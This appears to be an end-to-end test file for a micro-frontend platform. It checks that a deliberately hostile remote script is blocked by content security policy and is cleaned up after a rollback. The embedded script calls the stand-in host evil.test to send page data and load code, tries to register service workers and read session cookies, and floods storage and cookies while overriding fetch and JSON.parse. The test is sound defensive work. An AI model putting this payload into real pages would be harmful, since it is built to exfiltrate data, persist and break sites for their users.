import type { RegistryClient } from '@setu/registry-client';
import { hydrated } from '../src/browser/hydrated';
import { type BrowserKit, openBrowser } from '../src/browser/page-kit';
import { eventually, platformUrl } from '../src/platform/platform';
import { promoteBuild, registryClient, testReason } from '../src/platform/registry';
import { buildVariant, removeVariants } from '../src/platform/variant';
import { demoPassword } from '../src/visitors/api-client';

const remoteName = 'mfe-public';

/** A remote that tries to persist, to read other data, or to send data away. Its results are in the window. */
const hostileCode = `
if (typeof window !== 'undefined')
  void (async () => {
    const tried: Record<string, string> = {};
    const attempt = async (what: string, run: () => unknown) => {
      tried[what] = await Promise.resolve().then(run).then(
        (result) => 'done: ' + String(result),
        (error: Error) => 'refused: ' + error.name,
      );
    };
    const own = performance.getEntriesByType('resource').find(({ name }) => /\\/mfe\\/mfe-public\\/.*\\.js/.test(name))!.name;
    const policies: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => policies.push(effectiveDirective));
    const { serviceWorker } = navigator;
    await attempt('its own file as a service worker', () => serviceWorker.register(own));
    await attempt('its own file as a service worker of the site', () => serviceWorker.register(own, { scope: '/' }));
    await attempt('a service worker at the root', () => serviceWorker.register('/x-sw.js', { scope: '/' }));
    await attempt('a service worker from elsewhere', () => serviceWorker.register('https://evil.test/sw.js'));
    await attempt('words as code', () => new Function('return 1')());
    await attempt('the cookie of the session', () => (/sess|sid|signed/i.test(document.cookie) ? 'read' : 'not there'));
    await attempt('a call to another server', () => fetch('https://evil.test/?' + document.title));
    const script = document.createElement('script');
    script.src = 'https://evil.test/more.js';
    await attempt('a script of another server', () => new Promise((resolve, reject) => {
      script.onload = resolve;
      script.onerror = () => reject(new TypeError());
      document.body.append(script);
    }));
    tried['policies that refused'] = [...new Set(policies)].sort().join(' ');
    // What it leaves behind in the browser.
    const junk = '{"' + 'x'.repeat(2_000);
    for (const storage of [localStorage, sessionStorage]) {
      for (const key of Object.keys(storage)) storage.setItem(key, junk);
      try {
        for (let n = 0; n < 10_000; n += 1) storage.setItem('junk' + n, junk);
      } catch {
        // The storage is full.
      }
    }
    await caches.open('junk').then((cache) => cache.put('/franchises', new Response('Taken over')));
    JSON.parse = () => { throw new Error('taken'); };
    window.fetch = () => Promise.reject(new Error('taken'));
    for (let n = 0; n < 40; n += 1) document.cookie = 'junk' + n + '=' + 'x'.repeat(3_000) + '; path=/; max-age=86400';
    Object.assign(window, { tried });
  })();
`;

let kit: BrowserKit;
let registry: RegistryClient;
let good: string;
beforeAll(async () => {
  [kit, registry] = await Promise.all([openBrowser(), registryClient()]);
  good = (await registry.deployable(remoteName))?.deployment?.live ?? '';
});
afterAll(async () => {
  await registry.deploy(remoteName, { action: 'promote', version: good, override: testReason });
  await kit.close();
  await removeVariants();
});

test('the attempts of a hostile remote are refused, and nothing that it leaves behind survives its rollback', async () => {
  const build = await buildVariant(remoteName, 'hostile', {
    'src/screens/mindmap.tsx': (source) => source + hostileCode,
  });
  await promoteBuild(registry, build);
  const { context, page } = await kit.newVisitor();
  await page.goto('/mindmap');
  await page.waitForFunction(() => 'tried' in window);
  expect(await page.evaluate(() => (window as unknown as { tried: object }).tried)).toEqual({
    // The answer to the request for its service worker is one that unregisters itself.
    'its own file as a service worker': 'done: [object ServiceWorkerRegistration]',
    'its own file as a service worker of the site': 'refused: SecurityError',
    'a service worker at the root': 'done: [object ServiceWorkerRegistration]',
    'a service worker from elsewhere': 'refused: SecurityError',
    'words as code': 'refused: EvalError',
    'the cookie of the session': 'done: not there',
    'a call to another server': 'refused: TypeError',
    'a script of another server': 'refused: TypeError',
    'policies that refused': 'connect-src script-src script-src-elem',
  });

  const workers = () => page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
  await eventually(async () => expect(await workers()).toBe(0));

  await registry.deploy(remoteName, { action: 'rollback' });
  // The cookies exceed what a server reads. The server makes the browser remove them, and the next page works.
  await eventually(async () => {
    const reply = await page.goto('/franchises');
    expect(reply?.status()).toBe(200);
  });
  await hydrated(page);
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  expect((await context.cookies()).filter(({ name }) => name.startsWith('junk'))).toEqual([]);
  expect(await workers()).toBe(0);
  expect(await page.locator('[data-deployable]').first().getAttribute('data-version')).toBe(good);

  // A person signs in, reads the conversations and writes, with the storage as the remote left it.
  await page.goto('/api/login');
  const form = page.locator('.panel.sign-in');
  await form.getByLabel('Email').fill('investor@demo.test');
  await form.getByLabel('Password', { exact: true }).fill(demoPassword());
  await form.getByRole('button', { name: 'Sign in', exact: true }).click();
  await page.waitForURL(`${platformUrl()}/`);
  await page.goto('/dashboard');
  await hydrated(page);
  await page.getByRole('tab').first().waitFor();
  expect(await page.getByText('This part of the page could not be shown').count()).toBe(0);
  await context.close();
});
